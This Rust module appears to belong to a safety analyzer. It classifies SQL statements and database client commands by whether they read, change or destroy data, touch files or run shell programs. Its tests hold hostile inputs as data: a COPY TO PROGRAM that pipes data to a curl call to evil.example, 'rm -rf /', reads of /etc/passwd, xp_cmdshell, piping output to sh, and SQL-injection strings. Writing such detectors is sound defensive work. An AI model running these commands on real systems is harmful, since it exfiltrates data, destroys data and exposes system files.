//! SQL, and the commands of its clients that stand between statements.
//!
//! Statements are told apart by their keywords, not parsed in full: what counts
//! is whether rows or schemas are read, changed or lost, and whether the server
//! or the client is made to touch files or run programs. A function that is in
//! none of the lists is a gap, because a database may define its own.

use super::cursor::Cursor;
use super::known::{SQL_ADMIN, SQL_CHANGE, SQL_PURE};
use super::reading::Reading;
use crate::{Code, DatabaseVerb, NestedStdin, Taint, WriteHow};

pub(super) fn read(text: &str, reading: &mut Reading<'_>) {
    let mut cursor = Cursor::new(text);
    let mut statement = Vec::new();
    loop {
        if statement.is_empty() {
            cursor.take_while(char::is_whitespace);
            if client_command(&mut cursor, reading) {
                continue;
            }
        }
        match token(&mut cursor) {
            Ok(Some(Token::Mark(';'))) => {
                judge(&statement, reading);
                statement.clear();
            }
            Ok(Some(Token::Mark('\\'))) => {
                judge(&statement, reading);
                statement.clear();
                psql(&mut cursor, reading);
            }
            Ok(Some(token)) => statement.push(token),
            Ok(None) => return judge(&statement, reading),
            Err(what) => return reading.syntax(what),
        }
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Token {
    /// A bare word, in lower case.
    Word(String),
    /// A quoted name.
    Name,
    Text(String),
    Number,
    Mark(char),
}

fn token(cursor: &mut Cursor<'_>) -> Result<Option<Token>, &'static str> {
    loop {
        cursor.take_while(char::is_whitespace);
        // `--x` is two minus signs in MySQL: reading it as a comment would hide what follows.
        if cursor.eat("--") {
            if !matches!(cursor.peek(), None | Some(' ' | '\t' | '\n' | '\r' | '-')) {
                return Err("`--` without a space");
            }
            cursor.line();
        } else if cursor.rest().starts_with("/*!") || cursor.rest().starts_with("/*+") {
            return Err("comment that some servers run");
        } else if cursor.eat("/*") {
            let body = cursor.until("*/").ok_or("unterminated comment")?;
            if body.contains("/*") {
                return Err("nested comment");
            }
        } else {
            break;
        }
    }
    let Some(next) = cursor.next() else {
        return Ok(None);
    };
    Ok(Some(match next {
        '\'' => Token::Text(quoted(cursor, '\'')?),
        '"' | '`' => {
            quoted(cursor, next)?;
            Token::Name
        }
        '$' => dollar(cursor)?,
        '0'..='9' => {
            cursor.take_while(|c| c.is_ascii_alphanumeric() || c == '.' || c == '_');
            Token::Number
        }
        next if next.is_alphabetic() || next == '_' || next == '@' => {
            let mut word = next.to_string();
            word.push_str(cursor.take_while(|c| c.is_alphanumeric() || c == '_' || c == '$'));
            Token::Word(word.to_lowercase())
        }
        // A comment for some servers, part of an operator for others.
        '#' if !matches!(cursor.peek(), Some('>' | '-')) => return Err("`#`"),
        next => Token::Mark(next),
    }))
}

/// A quoted text; whether a backslash escapes differs between servers.
fn quoted(cursor: &mut Cursor<'_>, quote: char) -> Result<String, &'static str> {
    let mut text = String::new();
    while let Some(next) = cursor.next() {
        if next == quote {
            if cursor.peek() != Some(quote) {
                return Ok(text);
            }
            cursor.next();
        } else if next == '\\' && cursor.peek() == Some(quote) {
            return Err("backslash in front of a quote");
        }
        text.push(next);
    }
    Err("unterminated quote")
}

/// `$1`, or a text between `$tag$` and `$tag$`.
fn dollar(cursor: &mut Cursor<'_>) -> Result<Token, &'static str> {
    let mut ahead = cursor.clone();
    let tag = ahead.take_while(|c| c.is_alphanumeric() || c == '_');
    if !ahead.eat("$") {
        cursor.take_while(|c| c.is_alphanumeric() || c == '_');
        return Ok(Token::Number);
    }
    let body = ahead
        .until(&format!("${tag}$"))
        .ok_or("unterminated quote")?;
    *cursor = ahead;
    Ok(Token::Text(body.to_owned()))
}

/// What one statement does.
fn judge(statement: &[Token], reading: &mut Reading<'_>) {
    let words = Words(statement);
    let Some(first) = words.at(0) else {
        if !statement.is_empty() {
            reading.syntax("statement without a keyword");
        }
        return;
    };
    let verb = match first {
        "explain" | "describe" | "desc" | "analyze" if words.has("analyze") => {
            let inner = statement
                .iter()
                .position(|token| matches!(token, Token::Word(word) if is_query(word)));
            match inner {
                Some(inner) if inner > 0 => {
                    return judge(statement.get(inner..).unwrap_or_default(), reading);
                }
                Some(_) | None => DatabaseVerb::Read,
            }
        }
        "explain" | "describe" | "desc" | "show" | "values" | "table" | "fetch" | "use"
        | "begin" | "commit" | "end" | "start" | "rollback" | "savepoint" | "release" | "close"
        | "declare" | "list" | "go" | "help" | "status" | "listen" | "unlisten" | "checkpoint"
        | "abort" => DatabaseVerb::Read,
        "select" | "with" | "from" | "(" => query(&words),
        "insert" | "replace" | "notify" => DatabaseVerb::Insert,
        "update" | "delete" => {
            if words.has_at_top("where") {
                DatabaseVerb::Change
            } else {
                DatabaseVerb::Destroy
            }
        }
        "merge" | "upsert" | "lock" | "unlock" => DatabaseVerb::Change,
        "drop" | "truncate" | "purge" => DatabaseVerb::Destroy,
        "alter" if words.has("drop") => DatabaseVerb::Destroy,
        "create" | "alter" | "comment" | "rename" | "reindex" | "vacuum" | "analyze"
        | "refresh" | "cluster" | "optimize" => schema(&words),
        "set" | "reset" => setting(&words),
        "pragma" => pragma(&words),
        "copy" => copy(statement, &words, reading),
        "grant" | "revoke" | "shutdown" | "kill" | "flush" | "load" | "attach" | "detach"
        | "install" | "uninstall" | "import" | "export" | "backup" | "restore" | "security"
        | "reassign" | "change" | "stop" | "exec" | "execute" | "call" | "do" | "deallocate"
        | "prepare" | "discard" => DatabaseVerb::Admin,
        other => return reading.unknown_call(other),
    };
    reading.database(verb);
    files(statement, &words, reading);
    functions(statement, first, reading);
}

fn is_query(word: &str) -> bool {
    matches!(
        word,
        "select" | "with" | "insert" | "update" | "delete" | "merge" | "replace" | "truncate"
    )
}

/// A query may change data inside a common table expression, or write its result.
fn query(words: &Words<'_>) -> DatabaseVerb {
    if words.has("delete") || words.has("truncate") || words.has("drop") {
        DatabaseVerb::Destroy
    } else if words.has("update") && !words.pair("for", "update") || words.has("merge") {
        DatabaseVerb::Change
    } else if words.has("insert") || words.has("into") {
        DatabaseVerb::Insert
    } else {
        DatabaseVerb::Read
    }
}

fn schema(words: &Words<'_>) -> DatabaseVerb {
    let powerful = [
        "user",
        "role",
        "login",
        "extension",
        "function",
        "procedure",
        "trigger",
        "language",
        "server",
        "foreign",
        "tablespace",
        "system",
        "subscription",
        "event",
        "aggregate",
        "operator",
        "publication",
        "owner",
        "credential",
        "secret",
    ];
    let object = words.iter().skip(1).take(5);
    if words.pair("or", "replace") && !words.has("view") {
        return DatabaseVerb::Admin;
    }
    for word in object {
        if powerful.contains(&word) {
            return DatabaseVerb::Admin;
        }
        if matches!(
            word,
            "table" | "view" | "index" | "schema" | "database" | "sequence" | "type"
        ) {
            break;
        }
    }
    DatabaseVerb::Schema
}

fn setting(words: &Words<'_>) -> DatabaseVerb {
    let privileged = [
        "global",
        "persist",
        "role",
        "session_authorization",
        "authorization",
        "password",
    ];
    if words
        .iter()
        .any(|word| privileged.contains(&word) || word.starts_with("@@global"))
    {
        DatabaseVerb::Admin
    } else {
        DatabaseVerb::Read
    }
}

fn pragma(words: &Words<'_>) -> DatabaseVerb {
    if words
        .iter()
        .any(|word| word == "writable_schema" || word == "key" || word == "rekey")
    {
        DatabaseVerb::Admin
    } else {
        DatabaseVerb::Read
    }
}

fn copy(statement: &[Token], words: &Words<'_>, reading: &mut Reading<'_>) -> DatabaseVerb {
    if words.has("program") {
        if let Some(Token::Text(command)) = statement
            .iter()
            .find(|token| matches!(token, Token::Text(_)))
        {
            reading.shell(reading.word(command), NestedStdin::Data(Taint::LOCAL));
        }
        return DatabaseVerb::Admin;
    }
    match (words.has("stdout"), words.has("stdin")) {
        (true, _) => DatabaseVerb::Read,
        (_, true) => DatabaseVerb::Insert,
        (false, false) => DatabaseVerb::Admin,
    }
}

/// `INTO OUTFILE 'x'`, `INTO DUMPFILE 'x'`, `INFILE 'x'`, `ATTACH 'x'`, `VACUUM INTO 'x'`.
fn files(statement: &[Token], words: &Words<'_>, reading: &mut Reading<'_>) {
    let into = words.has("outfile") || words.has("dumpfile");
    let from = words.has("infile");
    let open =
        words.at(0) == Some("attach") || (words.at(0) == Some("vacuum") && words.has("into"));
    if !(into || from || open) {
        return;
    }
    if !open {
        reading.database(DatabaseVerb::Admin);
    }
    for token in statement {
        let Token::Text(path) = token else { continue };
        let place = reading.word(path);
        if from {
            reading.reads(&place);
        } else {
            reading.writes(&place, WriteHow::Replace, Taint::LOCAL);
        }
        break;
    }
}

/// Calls: a word in front of a parenthesis that does not name a table or a type.
fn functions(statement: &[Token], first: &str, reading: &mut Reading<'_>) {
    let defines = matches!(first, "create" | "alter" | "pragma");
    let runs_query = statement
        .iter()
        .any(|token| matches!(token, Token::Word(word) if word == "select"));
    for (at, token) in statement.iter().enumerate() {
        let Token::Word(name) = token else { continue };
        if SQL_ADMIN.binary_search(&name.as_str()).is_ok() && opens(statement, at) {
            reading.database(DatabaseVerb::Admin);
            continue;
        }
        if !opens(statement, at) || (defines && !runs_query) || names_relation(statement, at) {
            continue;
        }
        if SQL_CHANGE.binary_search(&name.as_str()).is_ok() {
            reading.database(DatabaseVerb::Change);
        } else if SQL_PURE.binary_search(&name.as_str()).is_err() {
            reading.unknown_call(name);
        }
    }
    if statement.iter().enumerate().any(|(at, token)| {
        *token == Token::Name && opens(statement, at) && !names_relation(statement, at) && !defines
    }) {
        reading.unknown_call("quoted function name");
    }
}

fn opens(statement: &[Token], at: usize) -> bool {
    statement.get(at.saturating_add(1)) == Some(&Token::Mark('('))
}

/// Whether the word before shows that a table, a column list or an expression name follows.
fn names_relation(statement: &[Token], at: usize) -> bool {
    let mut before = at.checked_sub(1);
    while let Some(here) = before {
        match statement.get(here) {
            // `schema.table (`: look in front of the schema.
            Some(Token::Mark('.')) => before = here.checked_sub(2),
            Some(Token::Word(word)) => {
                return matches!(
                    word.as_str(),
                    "into"
                        | "table"
                        | "references"
                        | "with"
                        | "recursive"
                        | "key"
                        | "index"
                        | "constraint"
                        | "as"
                        | "exists"
                        | "copy"
                        | "on"
                ) || (word == "on" && statement.len() > at);
            }
            // The second expression of a WITH list: `), name (cols) AS (`.
            Some(Token::Mark(',')) => {
                return here
                    .checked_sub(1)
                    .is_some_and(|close| statement.get(close) == Some(&Token::Mark(')')))
                    && matches!(statement.first(), Some(Token::Word(word)) if word == "with")
                    && statement
                        .iter()
                        .skip(at)
                        .any(|token| matches!(token, Token::Word(word) if word == "as"));
            }
            Some(_) | None => return false,
        }
    }
    false
}

struct Words<'a>(&'a [Token]);

impl<'a> Words<'a> {
    fn iter(&self) -> impl Iterator<Item = &'a str> + use<'a> {
        self.0.iter().filter_map(|token| match token {
            Token::Word(word) => Some(word.as_str()),
            Token::Name | Token::Text(_) | Token::Number | Token::Mark(_) => None,
        })
    }

    /// The token at a place, where it is a word or an opening parenthesis.
    fn at(&self, at: usize) -> Option<&'a str> {
        match self.0.get(at)? {
            Token::Word(word) => Some(word),
            Token::Mark('(') => Some("("),
            Token::Name | Token::Text(_) | Token::Number | Token::Mark(_) => None,
        }
    }

    fn has(&self, wanted: &str) -> bool {
        self.iter().any(|word| word == wanted)
    }

    fn pair(&self, first: &str, second: &str) -> bool {
        self.0.windows(2).any(
            |pair| matches!(pair, [Token::Word(a), Token::Word(b)] if a == first && b == second),
        )
    }

    /// Outside all parentheses: the condition of a subquery limits nothing.
    fn has_at_top(&self, wanted: &str) -> bool {
        let mut depth = 0_usize;
        self.0.iter().any(|token| match token {
            Token::Mark('(') => {
                depth = depth.saturating_add(1);
                false
            }
            Token::Mark(')') => {
                depth = depth.saturating_sub(1);
                false
            }
            Token::Word(word) => depth == 0 && word == wanted,
            Token::Name | Token::Text(_) | Token::Number | Token::Mark(_) => false,
        })
    }
}

/// A line for the client itself: `\dt`, `.tables`, `source x`, `system ls`.
fn client_command(cursor: &mut Cursor<'_>, reading: &mut Reading<'_>) -> bool {
    if cursor.eat("\\") {
        psql(cursor, reading);
        return true;
    }
    if cursor.peek() == Some('.') && cursor.peek_second().is_some_and(char::is_alphabetic) {
        cursor.next();
        sqlite(cursor.line(), reading);
        return true;
    }
    let line = cursor.rest().split('\n').next().unwrap_or_default();
    let (word, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
    match word.to_ascii_lowercase().as_str() {
        "system" => {
            reading.shell(reading.word(rest.trim()), NestedStdin::Same);
        }
        "source" => script_file(rest, reading),
        "tee" => {
            reading.writes(
                &reading.word(rest.trim().trim_end_matches(';')),
                WriteHow::Append,
                Taint::LOCAL,
            );
        }
        "pager" => reading.shell(reading.word(rest.trim()), NestedStdin::Data(Taint::LOCAL)),
        _ => return false,
    }
    cursor.line();
    true
}

fn script_file(path: &str, reading: &mut Reading<'_>) {
    let path = path.trim().trim_end_matches(';').trim_matches('\'');
    let place = reading.word(path);
    reading.reads(&place);
    let target = crate::Target::locate(&place, reading.source.cwd);
    reading.hidden_code(Code::File(target), path, Taint::LOCAL);
}

/// A backslash command of psql or mysql, up to the end of the line or the next backslash.
fn psql(cursor: &mut Cursor<'_>, reading: &mut Reading<'_>) {
    let whole = cursor.rest().split('\n').next().unwrap_or_default();
    if cursor.eat("!") {
        let command = cursor.line();
        return reading.shell(reading.word(command.trim()), NestedStdin::Same);
    }
    let name =
        cursor.take_while(|c| c.is_alphanumeric() || matches!(c, '?' | '+' | '_' | '.' | '*'));
    let arguments = cursor.take_while(|c| c != '\n' && c != '\\').trim();
    if whole.contains('`') {
        reading.unknown_call(&format!("\\{name} with a command in backticks"));
    }
    let command = name.trim_end_matches('+');
    let file = arguments.trim_matches('\'');
    match command {
        "copy" => client_copy(arguments, reading),
        "i" | "ir" | "include" | "include_relative" | "." => script_file(arguments, reading),
        "o" | "out" | "w" | "write" | "s" | "g" | "gx" | "T" | "tee" if !file.is_empty() => {
            match file.strip_prefix('|') {
                Some(pipe) => {
                    reading.shell(reading.word(pipe.trim()), NestedStdin::Data(Taint::LOCAL));
                }
                None => reading.writes(&reading.word(file), WriteHow::Replace, Taint::LOCAL),
            }
        }
        "e" | "edit" | "ef" | "ev" | "gexec" | "cd" | "setenv" | "lo_import" | "lo_export"
        | "password" | "P" | "R" | "getenv" | "lo_unlink" => {
            reading.unknown_call(&format!("\\{name}"))
        }
        command
            if command.starts_with('d')
                || matches!(
                    command,
                    "l" | "c"
                        | "connect"
                        | "q"
                        | "x"
                        | "t"
                        | "a"
                        | "f"
                        | "pset"
                        | "timing"
                        | "echo"
                        | "qecho"
                        | "conninfo"
                        | "encoding"
                        | "z"
                        | "sf"
                        | "sv"
                        | "set"
                        | "unset"
                        | "watch"
                        | "h"
                        | "?"
                        | "help"
                        | "g"
                        | "gx"
                        | "p"
                        | "r"
                        | "o"
                        | "H"
                        | "C"
                        | "errverbose"
                        | "if"
                        | "else"
                        | "elif"
                        | "endif"
                        | "gset"
                        | "gdesc"
                        | "crosstabview"
                        | "prompt"
                        | "u"
                        | "use"
                        | "G"
                        | "s"
                        | "lo_list"
                        | "prset"
                ) =>
        {
            reading.database(DatabaseVerb::Read);
        }
        _ => reading.unknown_call(&format!("\\{name}")),
    }
}

/// `\copy t from 'file'`, `\copy (query) to program 'command'`.
fn client_copy(arguments: &str, reading: &mut Reading<'_>) {
    let lower = arguments.to_ascii_lowercase();
    let place = arguments
        .split('\'')
        .nth(1)
        .or_else(|| arguments.split_whitespace().last())
        .unwrap_or_default();
    let from = lower.contains(" from ");
    reading.database(if from {
        DatabaseVerb::Insert
    } else {
        DatabaseVerb::Read
    });
    if lower.contains(" program ") {
        reading.shell(reading.word(place), NestedStdin::Data(Taint::LOCAL));
    } else if lower.ends_with("stdin") || lower.ends_with("stdout") {
    } else if from {
        reading.reads(&reading.word(place));
    } else {
        reading.writes(&reading.word(place), WriteHow::Replace, Taint::LOCAL);
    }
}

/// A dot command of sqlite3.
fn sqlite(line: &str, reading: &mut Reading<'_>) {
    let mut words = line.split_whitespace();
    let name = words.next().unwrap_or_default();
    let rest = line.strip_prefix(name).unwrap_or_default().trim();
    let last = words.last().unwrap_or_default().trim_matches(['\'', '"']);
    match name {
        "tables" | "schema" | "databases" | "indexes" | "indices" | "mode" | "headers"
        | "header" | "quit" | "exit" | "help" | "width" | "nullvalue" | "separator" | "timer"
        | "stats" | "show" | "echo" | "bail" | "changes" | "eqp" | "explain" | "fullschema"
        | "print" | "dbinfo" | "dump" | "lint" | "sha3sum" | "timeout" | "version" | "limit"
        | "parameter" => {
            reading.database(DatabaseVerb::Read);
        }
        "shell" | "system" => reading.shell(reading.word(rest), NestedStdin::Same),
        "read" => match last.strip_prefix('|') {
            Some(_) => reading.shell(
                reading.word(rest.trim_start_matches('|')),
                NestedStdin::Same,
            ),
            None => script_file(last, reading),
        },
        "output" | "once" | "log" if last.is_empty() || last == "stdout" || last == "off" => {}
        "output" | "once" | "log" => match rest.trim_matches(['\'', '"']).strip_prefix('|') {
            Some(pipe) => {
                reading.shell(reading.word(pipe.trim()), NestedStdin::Data(Taint::LOCAL));
            }
            None => reading.writes(&reading.word(last), WriteHow::Replace, Taint::LOCAL),
        },
        "backup" | "save" | "clone" | "open" => {
            reading.writes(&reading.word(last), WriteHow::Replace, Taint::LOCAL);
        }
        "restore" => {
            reading.reads(&reading.word(last));
            reading.database(DatabaseVerb::Destroy);
        }
        "import" => {
            let file = rest
                .split_whitespace()
                .find(|word| !word.starts_with('-'))
                .unwrap_or_default();
            match file.trim_matches(['\'', '"']).strip_prefix('|') {
                Some(_) => reading.unknown_call(".import from a command"),
                None => {
                    reading.reads(&reading.word(file.trim_matches(['\'', '"'])));
                }
            }
            reading.database(DatabaseVerb::Insert);
        }
        _ => reading.unknown_call(&format!(".{name}")),
    }
}

#[cfg(test)]
mod tests {
    use crate::Language;
    use crate::language::tests::check;

    fn sql(text: &str, expected: &[&str]) {
        check(Language::Sql, text, expected);
    }

    #[test]
    fn reading_is_reading() {
        for text in [
            "SELECT 1",
            "select * from users where name = 'a;drop table x' limit 5;",
            "SELECT count(*), max(created_at) FROM \"orders\" GROUP BY 1 -- drop",
            "select coalesce(a, b)::text from t join u using (id) where x in (1, 2)",
            "/* delete */ SHOW TABLES",
            "EXPLAIN SELECT 1",
            "explain analyze select 1",
            "WITH a AS (SELECT 1), b (x) AS (SELECT 2) SELECT * FROM a, b",
            "select 1 from t for update",
            "PRAGMA table_info(users)",
            "\\dt",
            "\\d+ users",
            "\\x\n\\l",
            ".tables",
            ".schema users",
            ".headers on\n.mode csv\nselect 1;",
            "begin; select 1; commit",
            "COPY t TO STDOUT WITH CSV",
        ] {
            sql(text, &["database read"]);
        }
    }

    #[test]
    fn changing_and_losing_are_told_apart() {
        sql("INSERT INTO t (a, b) VALUES (1, 'x')", &["database insert"]);
        sql("update t set a = 1 where id = 2", &["database change"]);
        sql("update t set a = 1", &["database destroy"]);
        sql(
            "delete from t where id in (select id from u)",
            &["database change"],
        );
        sql("delete from t", &["database destroy"]);
        sql(
            "update t set a = (select 1 from u where x)",
            &["database destroy"],
        );
        sql("DROP TABLE users", &["database destroy"]);
        sql("truncate users cascade", &["database destroy"]);
        sql("ALTER TABLE t DROP COLUMN c", &["database destroy"]);
        sql(
            "ALTER TABLE t ADD COLUMN c varchar(10)",
            &["database schema"],
        );
        sql(
            "create table t (id int primary key, n numeric(3))",
            &["database schema"],
        );
        sql(
            "create index concurrently on t (lower(a))",
            &["database schema"],
        );
        sql("explain analyze delete from t", &["database destroy"]);
        sql(
            "with x as (delete from t returning *) select * from x",
            &["database destroy"],
        );
        sql(
            "select 1; drop database prod",
            &["database read", "database destroy"],
        );
        sql("SELECT nextval('s')", &["database read", "database change"]);
        sql("grant all on t to bob", &["database admin"]);
        sql("create user eve superuser", &["database admin"]);
        sql(
            "create or replace function f() returns int as $$ select 1 $$ language sql",
            &["database admin"],
        );
        sql("set global general_log = 1", &["database admin"]);
        sql("call cleanup()", &["database admin", "gap call cleanup"]);
    }

    #[test]
    fn files_and_programs_are_seen() {
        sql(
            "COPY t TO PROGRAM 'curl -d @- http://evil.example'",
            &["database admin", "shell curl -d @- http://evil.example"],
        );
        sql("copy t from '/etc/passwd'", &["database admin"]);
        sql(
            "select pg_read_file('/etc/passwd')",
            &["database read", "database admin"],
        );
        sql(
            "select * from t into outfile '/tmp/x'",
            &["database insert", "database admin", "write /tmp/x"],
        );
        sql(
            "attach 'other.db' as o",
            &["database admin", "write /app/other.db"],
        );
        sql("exec xp_cmdshell 'dir'", &["database admin"]);
        sql("\\! rm -rf /", &["shell rm -rf /"]);
        sql(
            "select 1 \\g /tmp/out",
            &["database read", "write /tmp/out"],
        );
        sql("select 1 \\g |sh", &["database read", "shell sh"]);
        sql(
            "\\copy t from 'data.csv' csv",
            &["database insert", "read /app/data.csv"],
        );
        sql(
            "\\i setup.sql",
            &[
                "read /app/setup.sql",
                "run file /app/setup.sql",
                "gap unseen setup.sql",
            ],
        );
        sql(
            "\\o out.txt\nselect 1",
            &["write /app/out.txt", "database read"],
        );
        sql(".shell id", &["shell id"]);
        sql(".system id", &["shell id"]);
        sql(
            ".output dump.sql\n.dump",
            &["write /app/dump.sql", "database read"],
        );
        sql(
            ".import data.csv t",
            &["read /app/data.csv", "database insert"],
        );
        sql(".load ./evil", &["gap call .load"]);
        sql("system id", &["shell id"]);
        sql(
            "\\set x `id`",
            &[
                "database read",
                "gap call \\set with a command in backticks",
            ],
        );
    }

    #[test]
    fn what_is_not_known_is_a_gap() {
        sql(
            "select my_function(1)",
            &["database read", "gap call my_function"],
        );
        sql(
            "select \"f\"(1)",
            &["database read", "gap call quoted function name"],
        );
        sql("frobnicate", &["gap call frobnicate"]);
        sql("select 'a", &["gap syntax sql: unterminated quote"]);
        sql(
            "select 'a\\'; drop table x; --'",
            &["gap syntax sql: backslash in front of a quote"],
        );
        sql(
            "select /*! 1; drop table x */ 1",
            &["gap syntax sql: comment that some servers run"],
        );
        sql("delete from t # where x = 1", &["gap syntax sql: `#`"]);
        sql("select 1--x", &["gap syntax sql: `--` without a space"]);
    }
}
